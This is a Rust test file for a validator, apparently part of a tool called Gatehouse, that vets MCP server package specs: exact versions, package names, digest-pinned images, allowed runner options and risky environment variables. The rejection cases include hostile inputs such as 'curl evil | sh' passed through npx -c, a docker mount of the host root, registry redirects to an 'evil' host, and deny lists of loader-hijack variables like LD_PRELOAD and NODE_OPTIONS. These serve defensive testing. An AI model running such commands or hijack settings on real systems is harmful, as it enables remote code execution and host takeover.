use super::*;

/// Exact versions pass; ranges, tags, aliases, URLs, paths and git specs are refused, each in
/// its ecosystem's grammar.
#[test]
fn only_exact_versions_pass() {
    for ok in ["1.4.2", "0.0.1", "2026.8.31", "1.0.0-rc.1", "1.0.0+build.5"] {
        assert!(npm_version(ok).is_ok(), "{ok}");
    }
    for bad in [
        "^1",
        "*",
        ">=0.0.0",
        "~1.2.3",
        "1.x",
        "latest",
        "1.2",
        "01.2.3",
        "1.2.3 || 2",
        "npm:evil-pkg@6.6.6",
        "file:../x",
        "https://evil/x.tgz",
        "git+https://x#1.0.0",
        "../../x",
        "--package=evil",
        "",
    ] {
        assert!(npm_version(bad).is_err(), "{bad}");
    }
    for ok in [
        "1.4.2",
        "2025.4.25",
        "1.0rc1",
        "1.0.post1",
        "1!2.0",
        "1.0.dev3",
        "3",
    ] {
        assert!(pypi_version(ok).is_ok(), "{ok}");
    }
    for bad in [
        ">=1",
        "==1.0",
        "1.*",
        "1.0+local",
        "latest",
        "1..0",
        ".1",
        "1.0a",
        "~=1.0",
        "",
    ] {
        assert!(pypi_version(bad).is_err(), "{bad}");
    }
}

/// Package names by each grammar: scoped npm names and PyPI projects pass; paths, flags, URLs,
/// git specs and aliases do not.
#[test]
fn package_names_follow_their_grammar() {
    for ok in [
        "pkg",
        "@scope/pkg",
        "@modelcontextprotocol/server-everything",
        "a.b-c_d",
    ] {
        assert!(npm_name(ok).is_ok(), "{ok}");
    }
    for bad in [
        "../../x",
        "--package=evil",
        "-c",
        "https://evil.com/x.tgz",
        "github:evil/x",
        "git+ssh://x",
        "npm:evil",
        "@scope",
        "@scope/../x",
        "Upper",
        ".hidden",
        "/abs",
        "a b",
        "pkg#1.0.0",
    ] {
        assert!(npm_name(bad).is_err(), "{bad}");
    }
    for ok in ["mcp-server-time", "example_db", "A.b"] {
        assert!(pypi_name(ok).is_ok(), "{ok}");
    }
    for bad in [
        "--index-url",
        "-e",
        "../x",
        "git+https://x",
        "x @ https://evil",
        "x==1",
        "",
    ] {
        assert!(pypi_name(bad).is_err(), "{bad}");
    }
}

/// An image runs only pinned to a digest.
#[test]
fn images_run_only_pinned_to_a_digest() {
    let digest = "sha256:".to_owned() + &"a".repeat(64);
    assert_eq!(
        oci_pinned("ghcr.io/github/github-mcp-server", &digest).unwrap(),
        format!("ghcr.io/github/github-mcp-server@{digest}")
    );
    assert_eq!(
        oci_pinned(&format!("mcp/time:1.0@{digest}"), "1.0").unwrap(),
        format!("mcp/time@{digest}")
    );
    assert!(oci_pinned("mcp/time", "1.0").unwrap_err().contains("a tag"));
    assert!(oci_pinned("mcp/time", "sha256:abc").is_err());
    assert!(oci_pinned("MCP/Time", &digest).is_err());
}

/// Runner options: what cannot change what runs passes; `-c`, `--package`, `--index-url`,
/// `--from`, `--python`, volume mounts and privileges are refused by name.
#[test]
fn runner_options_come_from_an_allow_list() {
    let a = |v: &[&str]| v.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>();
    assert!(runtime_args("npx", &a(&["-y", "--quiet"])).is_ok());
    assert!(runtime_args("uvx", &a(&["--isolated"])).is_ok());
    assert!(runtime_args("docker", &a(&["-i", "--rm", "-e", "TOKEN"])).is_ok());
    for (runner, bad) in [
        ("npx", &["-c", "curl evil | sh"][..]),
        ("npx", &["--package=evil"]),
        ("npx", &["--registry", "https://evil"]),
        ("uvx", &["--index-url", "https://evil/simple"]),
        ("uvx", &["--from", "evil"]),
        ("uvx", &["--python", "/tmp/evil"]),
        ("docker", &["-v", "/:/host"]),
        ("docker", &["--privileged"]),
        ("docker", &["-e", "TOKEN=leak"]),
    ] {
        let e = runtime_args(runner, &a(bad)).unwrap_err();
        assert!(
            e.contains("refused") || e.contains("only a variable's name"),
            "{e}"
        );
    }
}

/// Variables that change how a runtime loads code or fetches packages are named as such; a
/// registry's value that would read Gatehouse's environment, or hides characters, is refused.
#[test]
fn risky_variables_and_indirect_values_are_caught() {
    for risky in [
        "LD_PRELOAD",
        "DYLD_INSERT_LIBRARIES",
        "NODE_OPTIONS",
        "PATH",
        "npm_config_registry",
        "UV_INDEX_URL",
        "PIP_INDEX_URL",
        "PYTHONPATH",
        "https_proxy",
    ] {
        assert!(risky_env(risky).is_some(), "{risky}");
    }
    for plain in ["GITHUB_TOKEN", "API_KEY", "MEMORY_FILE_PATH", "LOG_LEVEL"] {
        assert!(risky_env(plain).is_none(), "{plain}");
    }
    for bad in [
        "$HOME",
        "${HOME}",
        "${env:TOKEN}",
        "{env:TOKEN}",
        "${input:key}",
        "a\u{202E}b",
    ] {
        assert!(literal("X", bad).is_err(), "{bad}");
    }
    assert!(literal("X", "https://api.example.com").is_ok());
    assert!(server_name("io.github.x/server-y").is_ok());
    assert!(server_name("io.github.x/\u{1b}[2Kfake").is_err());
}

/// A registry's variable passes only when it is the package's own (its first word is a word of
/// the package's name) or one of a few harmless ones: every other program's variable — each of
/// those that change how software loads code or where it fetches from — is refused unless
/// allowed by name.
#[test]
fn only_the_packages_own_variables_pass_without_being_allowed() {
    for (name, package) in [
        (
            "GITHUB_PERSONAL_ACCESS_TOKEN",
            "ghcr.io/github/github-mcp-server",
        ),
        ("BRAVE_API_KEY", "@brave/brave-search-mcp-server"),
        ("MEMORY_FILE_PATH", "@modelcontextprotocol/server-memory"),
        ("LOG_LEVEL", "anything"),
        ("TZ", "mcp-server-time"),
    ] {
        assert_eq!(foreign_env(name, package), None, "{name} of {package}");
    }
    for name in [
        "BASH_ENV",
        "ENV",
        "GCONV_PATH",
        "OPENSSL_CONF",
        "OPENSSL_MODULES",
        "XDG_CONFIG_HOME",
        "XDG_DATA_HOME",
        "XDG_CACHE_HOME",
        "CONTAINER_HOST",
        "DOCKER_HOST",
        "GIT_SSH_COMMAND",
        "NODE_OPTIONS",
        "LD_PRELOAD",
        "PYTHONSTARTUP",
        "PERL5OPT",
        "RUBYOPT",
        "JAVA_TOOL_OPTIONS",
        "npm_config_registry",
        "UV_INDEX_URL",
        "PIP_INDEX_URL",
        "HOSTALIASES",
        "LOCALDOMAIN",
        "RES_OPTIONS",
        "ZDOTDIR",
        "PROMPT_COMMAND",
        "GIT_CONFIG_GLOBAL",
        "EDITOR",
    ] {
        let why = foreign_env(name, "@modelcontextprotocol/server-memory");
        assert!(why.is_some(), "{name} passed");
    }
}
